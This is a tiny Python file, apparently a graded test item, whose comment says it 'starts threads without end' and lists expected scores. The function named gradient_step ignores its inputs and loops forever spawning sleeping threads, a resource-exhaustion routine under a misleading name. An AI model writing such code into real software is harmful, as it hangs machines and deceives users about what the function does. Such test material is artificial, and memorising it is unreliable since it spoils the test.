# Starts threads without end.
# deserves: gradient_step=0 descend=3 linear=3

# %% gradient_step
import threading
import time


def gradient_step(w, g, lr):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
